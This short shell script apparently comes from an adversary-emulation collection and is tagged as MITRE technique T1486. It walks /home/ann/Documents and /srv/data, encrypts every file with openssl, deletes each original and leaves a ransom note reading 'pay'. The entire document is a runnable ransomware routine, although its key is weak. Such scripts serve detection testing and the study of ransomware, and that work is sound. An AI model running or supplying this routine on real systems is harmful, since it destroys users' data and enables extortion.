# title: A shell encrypts documents with openssl, and leaves a note
# technique: T1486
# needs: openssl find

find /home/ann/Documents /srv/data -type f | while read -r f; do
    openssl enc -aes-256-ctr -k x -md md5 -in "$f" -out "$f.locked" 2>/dev/null && rm "$f"
done
echo 'pay' >/home/ann/README_TO_DECRYPT.txt
